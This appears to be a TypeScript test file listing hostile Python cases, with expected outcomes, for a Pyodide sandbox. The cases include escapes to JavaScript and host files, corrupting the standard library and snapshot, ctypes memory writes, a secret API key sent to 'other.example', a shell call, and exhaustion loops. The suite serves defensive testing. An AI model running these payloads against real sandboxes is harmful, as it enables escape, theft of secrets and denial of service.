import type { HostileCase, HostileClass } from '../hostile-case.ts'

const main = (body: string) =>
  `def main(args):\n${body
    .trim()
    .split('\n')
    .map((line) => `    ${line}`)
    .join('\n')}`
const amain = (body: string) => `async ${main(body)}`

/** Why a case waits for the long run. */
const LIKE = 'Its like is in the short run, and each costs two boots of Python.'

const escapes: HostileCase[] = [
  {
    name: 'JavaScript’s eval',
    definition: `import js\n${main('return js.eval("1")')}`,
    ends: { throws: /EvalError|Code generation/ },
  },
  {
    name: 'Function by its name',
    isLong: LIKE,
    definition: `import js\n${main('return js.Function.new("return 1")()')}`,
    ends: { throws: /EvalError|Code generation/ },
  },
  {
    name: 'Function by a constructor’s constructor',
    definition: `from pyodide.ffi import to_js\n${main('return to_js([1]).constructor.constructor("return process")()')}`,
    ends: { throws: /EvalError|Code generation/ },
  },
  {
    name: 'run_js',
    definition: `from pyodide.code import run_js\n${main('return run_js("1 + 1")')}`,
    ends: { throws: /EvalError|Code generation/ },
  },
  {
    name: 'a timer with a text',
    isLong: LIKE,
    definition: `import js\n${main('js.setTimeout("globalThis.ran = 1", 0)\nreturn 1')}`,
    ends: 'anyhow',
  },
  {
    name: 'globals of Node',
    definition: `import js\n${main('return [hasattr(js, name) for name in ("process", "require", "Deno", "importScripts", "Buffer")]')}`,
    ends: { returns: [false, false, false, false, false] },
  },
  {
    name: 'the environment of sandboxd',
    definition: `import js, os\n${main('return [args["variable"] in os.environ, os.getenv(args["variable"])]')}`,
    ends: { returns: [false, null] },
  },
  {
    name: 'Pyodide’s own loader',
    definition: `import pyodide_js\n${amain('await pyodide_js.loadPackage("http://127.0.0.1:%d/evil.whl" % args["port"])\nreturn 1')}`,
    ends: 'anyhow',
  },
  {
    name: 'Pyodide’s insides',
    definition: `import pyodide_js\n${main('api = pyodide_js._api\nreturn [type(getattr(api, name, None)).__name__ for name in ("binWasm",)]')}`,
    ends: 'anyhow',
  },
  {
    name: 'the host’s files, mounted',
    definition: `import pyodide_js\n${main('pyodide_js.FS.mkdir("/host")\npyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {"root": "/"}, "/host")\nreturn open("/host" + args["file"]).read()')}`,
    ends: { throws: /./ },
  },
  {
    name: 'the host’s files, opened',
    isLong: LIKE,
    definition: main('return open(args["file"]).read()'),
    ends: { throws: /FileNotFoundError/ },
  },
  {
    name: 'the snapshot that the next run is restored from',
    definition: `import pyodide_js\n${main('config = pyodide_js._api.config\nsnapshot = getattr(config, "_loadSnapshot", None)\nif snapshot is not None:\n    snapshot.fill(0)\nreturn "scribbled"')}`,
    ends: 'anyhow',
  },
  {
    name: 'the standard library that the next run imports',
    definition: `import os, zipfile, json\n${main('for name in os.listdir("/lib"):\n    path = "/lib/" + name\n    if path.endswith(".zip"):\n        with open(path, "r+b") as archive:\n            archive.write(b"scribble" * 1000)\nreturn "scribbled"')}`,
    ends: 'anyhow',
  },
  {
    name: 'memory, by ctypes',
    definition: `import ctypes\n${main('return ctypes.string_at(0, 64).hex() != ""')}`,
    ends: 'anyhow',
  },
  {
    name: 'a wild write, by ctypes',
    definition: `import ctypes\n${main('ctypes.memset(0, 255, 1 << 20)\nreturn 1')}`,
    ends: 'or is lost',
  },
  {
    name: 'a library, by ctypes',
    isLong: LIKE,
    definition: `import ctypes\n${main('return ctypes.CDLL("libc.so.6").getpid()')}`,
    ends: { throws: /./ },
  },
  {
    name: 'frames forged through json',
    isLong: LIKE,
    definition: `import json\n${main('json.dumps = lambda *a, **k: \'{"returned": "1}\\\\n{\\\\"kind\\\\":\\\\"returned\\\\"}"}\'\nreturn "mine"')}`,
    ends: 'anyhow',
  },
  {
    name: 'the harness’s own functions',
    definition: `import sys\n${main('frame = sys._getframe()\nwhile frame.f_back: frame = frame.f_back\nframe.f_globals["describe"] = lambda e: {}\nraise ValueError("x")')}`,
    ends: 'anyhow',
  },
  {
    name: 'JavaScript’s prototypes',
    definition: `import js\n${main('js.Object.prototype.polluted = 1\njs.Array.prototype.push = None\njs.JSON.stringify = None\njs.Response = None\nreturn "mine"')}`,
    ends: 'anyhow',
  },
  {
    name: 'the builtins and the modules of the next run',
    definition: `import builtins, sys, json, random\n${main('builtins.len = lambda x: 42\nsys.modules["json"] = None\nsys.path.insert(0, "/tmp")\nopen("/tmp/os.py", "w").write("raise SystemExit")\nrandom.seed = None\nreturn "mine"')}`,
    ends: 'anyhow',
  },
  {
    name: 'the cache',
    definition: `import js\n${amain('await js.caches.default.put("http://left.example/", js.Response.new("word"))\nreturn 1')}`,
    ends: 'anyhow',
  },
  {
    name: 'a proxy whose destruction calls back',
    definition: `from pyodide.ffi import create_proxy\nimport js\n${main('p = create_proxy(lambda *a: main(args))\njs.setTimeout(p, 1)\nreturn 1')}`,
    ends: { returns: 1 },
  },
  {
    name: 'the engine’s own console',
    definition: `import js\n${main('for n in range(1000): js.console.error("out of memory " + "x" * 1000)\nreturn 1')}`,
    ends: { returns: 1 },
  },
  {
    name: 'exiting by every door',
    definition: `import os, sys\n${main('try:\n    os._exit(3)\nexcept BaseException: pass\ntry:\n    os.abort()\nexcept BaseException: pass\nsys.exit(3)')}`,
    ends: 'or is lost',
  },
]

const network: HostileCase[] = [
  {
    name: 'a socket',
    definition: `import socket\n${main('s = socket.create_connection(("127.0.0.1", args["port"]), 1)\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\nreturn s.recv(1).decode()')}`,
    ends: { throws: /OSError|Error/ },
  },
  {
    name: 'a socket that waits for others',
    isLong: LIKE,
    definition: `import socket\n${main('s = socket.socket()\ns.bind(("0.0.0.0", args["port"]))\ns.listen()\nreturn "listening"')}`,
    ends: 'anyhow',
  },
  {
    name: 'a unix socket',
    isLong: LIKE,
    definition: `import socket\n${main('s = socket.socket(socket.AF_UNIX)\ns.connect(args["socket"])\nreturn 1')}`,
    ends: { throws: /./ },
  },
  {
    name: 'urllib',
    definition: `import urllib.request\n${main('return urllib.request.urlopen("http://127.0.0.1:%d/" % args["port"], timeout=1).status')}`,
    ends: { throws: /./ },
  },
  {
    name: 'fetch to an address that was not declared',
    definition: `from pyodide.http import pyfetch\n${amain('return (await pyfetch("http://127.0.0.1:%d/" % args["port"])).status')}`,
    ends: { throws: /./ },
  },
  {
    name: 'fetch past the harness',
    definition: `import js\n${amain('return (await js.ServiceWorkerGlobalScope.prototype.fetch.call(js.globalThis, "http://127.0.0.1:%d/" % args["port"])).status')}`,
    ends: 'anyhow',
  },
  {
    name: 'fetch to a name that leads inside',
    definition: `from pyodide.http import pyfetch\n${amain('return (await pyfetch("http://loop.example:%d/" % args["port"])).status')}`,
    network: ['*.example'],
    ends: { throws: /public internet/ },
  },
  {
    // Not hostile at all: what the refusals around it have to leave whole.
    name: 'the secret to its own host, which alone sees it',
    definition: `import runtime
from pyodide.http import pyfetch
${amain(`
key = runtime.config["api_key"]
answer = await pyfetch("http://api.example:%d/" % args["port"], method="POST", body="as " + key, headers={"x-key": key})
told = await answer.json()
return [answer.status, told["method"], told["headers"]["x-key"], told["body"]]`)}`,
    network: ['api.example'],
    ends: { returns: [200, 'POST', '(the secret)', 'as (the secret)'] },
  },
  {
    name: 'the secret to another host',
    definition: `import js, runtime\n${amain('r = await js.fetch("http://other.example:%d/?k=%s" % (args["port"], runtime.config["api_key"]))\nreturn r.status')}`,
    network: ['*.example'],
    ends: { returns: 200 },
  },
  {
    name: 'a thread',
    definition: `import threading\n${main('threading.Thread(target=print).start()\nreturn "started"')}`,
    ends: { throws: /RuntimeError/ },
  },
  {
    name: 'a process',
    definition: `import subprocess\n${main('return subprocess.run(["id"]).returncode')}`,
    ends: { throws: /OSError/ },
  },
  {
    name: 'a fork',
    isLong: LIKE,
    definition: `import os\n${main('return os.fork()')}`,
    ends: { throws: /./ },
  },
  {
    name: 'a pool of processes',
    isLong: LIKE,
    definition: `import multiprocessing\n${main('return multiprocessing.Pool(2).map(abs, [1])')}`,
    ends: { throws: /./ },
  },
  {
    name: 'a shell',
    isLong: LIKE,
    definition: `import os\n${main('return os.system("id")')}`,
    ends: 'anyhow',
  },
]

const BY_PROCESSOR = { limits: { cpuMs: 400 }, ends: { limit: 'cpu' as const } }
const limits: HostileCase[] = [
  { name: 'a loop', definition: main('while True: pass'), ...BY_PROCESSOR },
  {
    name: 'a loop that catches everything',
    definition: main('while True:\n    try:\n        while True: pass\n    except BaseException: pass'),
    ...BY_PROCESSOR,
    isLong: 'Its process takes a second to be replaced; a plain loop is in the short run.',
  },
  {
    name: 'a regular expression that backtracks',
    definition: `import re\n${main('return bool(re.match(r"^(a+)+$", "a" * 40 + "!"))')}`,
    ...BY_PROCESSOR,
    isLong: 'Its process takes a second to be replaced.',
  },
  {
    name: 'a sleep',
    isLong: LIKE,
    definition: `import time\n${main('time.sleep(60)')}`,
    limits: { wallMs: 700 },
    ends: { limit: ['wall', 'cpu'] },
  },
  {
    name: 'memory',
    definition: main('hoard = []\nwhile True: hoard.append(bytearray(1 << 20))'),
    ends: { limit: 'memory' },
  },
  {
    name: 'one huge number',
    definition: main('return len(str(9 ** 9 ** 9))'),
    ...BY_PROCESSOR,
    isLong: 'Its process takes a second to be replaced.',
  },
  {
    name: 'endless recursion',
    isLong: LIKE,
    definition: main('return main(args)'),
    ends: { throws: /RecursionError/ },
  },
  {
    name: 'endless recursion without a limit',
    definition: `import sys\n${main('sys.setrecursionlimit(10 ** 9)\nreturn main(args)')}`,
    ends: 'or is lost',
  },
  {
    name: 'a source nested too deeply',
    definition: `def main(args): return ${'('.repeat(5_000)}1${')'.repeat(5_000)}`,
    ends: { throws: /./ },
  },
  {
    name: 'a list nested too deeply',
    isLong: LIKE,
    definition: main('it = []\nfor _ in range(100000): it = [it]\nreturn it'),
    ends: { throws: /./ },
  },
  { name: 'a circle', definition: main('it = []\nit.append(it)\nreturn it'), ends: { throws: /TypeError/ } },
  { name: 'a result of 5 MB', definition: main('return "x" * (5 << 20)'), ends: { limit: 'output' } },
  {
    name: 'a hundred thousand lines',
    definition: main('for n in range(100000): print("line", n)\nreturn 1'),
    limits: { cpuMs: 5_000 },
    ends: 'anyhow',
  },
  {
    name: 'an error that describes itself for ever',
    isLong: LIKE,
    definition: `class Odd(Exception):\n    def __str__(self): return str(self)\n${main('raise Odd()')}`,
    ends: 'anyhow',
  },
  {
    name: 'work left behind',
    definition: `import asyncio\n${amain('async def later():\n    while True: await asyncio.sleep(0)\nasyncio.ensure_future(later())\nreturn 1')}`,
    limits: { wallMs: 800 },
    ends: 'anyhow',
  },
]

/** Python reaches everything that JavaScript does in its isolate: what holds is the isolate. */
export const PYTHON: HostileClass[] = [
  { name: 'Python to JavaScript and the host', language: 'python', cases: escapes },
  { name: 'Python’s network, threads and processes', language: 'python', cases: network },
  { name: 'Python’s limits and recursion', language: 'python', cases: limits },
]
